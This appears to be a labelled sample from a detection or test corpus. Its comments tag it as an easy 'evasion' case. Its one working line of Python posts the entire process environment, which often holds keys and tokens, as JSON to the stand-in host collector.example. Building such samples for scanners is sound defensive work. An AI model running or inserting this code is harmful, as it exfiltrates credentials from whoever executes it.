# evasion: the whole environment posted with urllib
# grade: easy; does: env-out
import json, os, urllib.request
urllib.request.urlopen("http://collector.example/e", data=json.dumps(dict(os.environ)).encode())
